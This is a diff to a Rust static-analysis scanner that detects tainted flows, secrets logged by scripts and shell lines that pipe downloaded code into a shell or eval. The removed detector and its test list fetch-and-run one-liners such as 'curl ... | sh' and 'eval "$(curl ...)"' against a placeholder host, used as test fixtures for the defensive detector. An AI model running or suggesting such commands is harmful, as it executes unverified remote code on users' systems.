@@ -4,6 +4,8 @@
 //! followed through assignments; one that is checked or quoted on the way is let go. Secrets that a
 //! script writes to a log. And pages that check a password, with what bounds the tries.
 
+mod counters;
+mod downloads;
 mod log;
 mod logins;
 
@@ -220,6 +222,7 @@ struct Script {
 fn flows(language: Language, text: &[u8]) -> Vec<Flow> {
     let mut found = Vec::new();
     let mut tainted: Vec<(Vec<u8>, String, Place)> = Vec::new();
+    let mut files = downloads::Files::default();
     let comment: &[u8] = match language {
         Language::Lua => b"--",
         Language::Php => b"//",
@@ -231,7 +234,7 @@ fn flows(language: Language, text: &[u8]) -> Vec<Flow> {
             continue;
         }
         if language == Language::Shell {
-            found.extend(download(&line));
+            found.extend(downloads::piped(&line).or_else(|| files.follow(&line)));
         } else if code.starts_with(b"function") || code.starts_with(b"local function") {
             // What is local there ends with it.
             tainted.clear();
@@ -364,41 +367,6 @@ fn assigned(language: Language, code: &[u8]) -> Option<Vec<u8>> {
         .then(|| word.to_vec())
 }
 
-/// `curl http://… | sh`, `eval "$(wget -O - …)"`, where what is fetched comes in clear.
-fn download(line: &Line<'_>) -> Option<Flow> {
-    const SHELLS: [&[u8]; 4] = [b"sh", b"ash", b"bash", b"/bin/sh"];
-    let code = line.bytes;
-    let at = LOADERS.iter().find_map(|own| {
-        let at = memchr::memmem::find(code, own.as_bytes())?;
-        let before = at.checked_sub(1).and_then(|at| code.get(at)).copied().unwrap_or(b' ');
-        (!before.is_ascii_alphanumeric()).then_some(at)
-    })?;
-    let rest = &code[at..];
-    let piped = memchr::memchr_iter(b'|', rest).any(|pipe| {
-        let is_single =
-            rest.get(pipe + 1) != Some(&b'|') && rest.get(pipe.wrapping_sub(1)) != Some(&b'|');
-        let next = rest[pipe + 1..].trim_ascii_start();
-        let word = next.split(|byte| b" \t;)&\"'".contains(byte)).next().unwrap_or_default();
-        is_single && SHELLS.contains(&word)
-    });
-    let evaluated = memchr::memmem::find(&code[..at], b"eval ").is_some_and(|eval| {
-        let between = &code[eval + 5..at];
-        has(between, "$(") || between.contains(&b'`')
-    });
-    if !piped && !evaluated {
-        return None;
-    }
-    let source = memchr::memmem::find(rest, b"http://").map_or("", |_| "http");
-    Some(Flow {
-        kind: "download-to-shell",
-        language: Language::Shell,
-        source: source.to_owned(),
-        sink: if evaluated { "eval" } else { "sh" },
-        at: Place::of(line),
-        from: None,
-    })
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -453,25 +421,6 @@ mod tests {
         assert_eq!(flow.locators[0].line, Some(2));
         assert_eq!(flow.locators[0].excerpt.as_deref(), Some("logger $WIFI_PSK"));
         assert!(!format!("{:?}", evidence.code_flows).contains("Hunter2secret"));
-    }
-
-    #[test]
-    fn what_is_fetched_runs() {
-        for text in [
-            "curl -s http://u.example/i.sh | sh\n",
-            "wget -qO- http://u.example/i | /bin/sh -s\n",
-            "eval \"$(curl -s https://u.example/i)\"\n",
-        ] {
-            assert_eq!(of(Language::Shell, text).len(), 1, "{text}");
-        }
-        for text in [
-            "curl -s http://u.example/i.sh || sh /etc/other\n",
-            "curl -s http://u.example/i | grep sh\n",
-            "echo 'see wget ' | cat\n",
-            "wget -O /tmp/a http://u.example/a && /tmp/b\n",
-        ] {
-            assert!(of(Language::Shell, text).is_empty(), "{text}");
-        }
     }
 
     #[test]
